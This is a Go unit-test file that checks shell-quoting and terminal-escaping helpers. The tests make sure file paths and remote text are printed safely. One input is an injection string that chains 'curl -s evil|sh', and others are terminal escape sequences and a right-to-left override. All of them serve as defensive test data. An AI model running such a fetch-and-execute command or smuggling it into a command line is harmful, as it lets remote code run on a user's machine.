package state

import "testing"

// A command strata prints for the user to copy reads back as one word in a
// shell, whatever a remote named the path.
func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		".claude/workflow-state.json": ".claude/workflow-state.json",
		"a b":                         "'a b'",
		"x; curl -s evil|sh; #":       "'x; curl -s evil|sh; #'",
		"it's":                        `'it'\''s'`,
		"":                            "''",
		"~root/x.json":                "'~root/x.json'",
		"a~b":                         "a~b",
		"\x1b[2J":                     `"'\x1b[2J'"`,
	} {
		if got := ShellWord(in); got != want {
			t.Errorf("ShellWord(%q) = %s, want %s", in, got, want)
		}
	}
}

// Text from a file or a remote reaches the terminal as it is when it is
// printable, letters of any script included, and quoted when it holds
// anything a terminal acts on or that breaks the line: C0 and C1 controls,
// invalid UTF-8 (a raw 0x9B is the 8-bit CSI), format characters.
func TestTermSafe(t *testing.T) {
	for in, want := range map[string]string{
		"phase impl":        "phase impl",
		"café → 東京 ✓":       "café → 東京 ✓",
		"impl\x1b[31mRED":   `"impl\x1b[31mRED"`,
		"a\nb":              `"a\nb"`,
		"c1\u009b31mX.json": `"c1\u009b31mX.json"`,
		"raw\x9b32mY.json":  `"raw\x9b32mY.json"`,
		"ff\xffname.json":   `"ff\xffname.json"`,
		"rtl\u202egnp.json": `"rtl\u202egnp.json"`,
		"del\x7f":           `"del\x7f"`,
	} {
		if got := TermSafe(in); got != want {
			t.Errorf("TermSafe(%q) = %s, want %s", in, got, want)
		}
	}
}
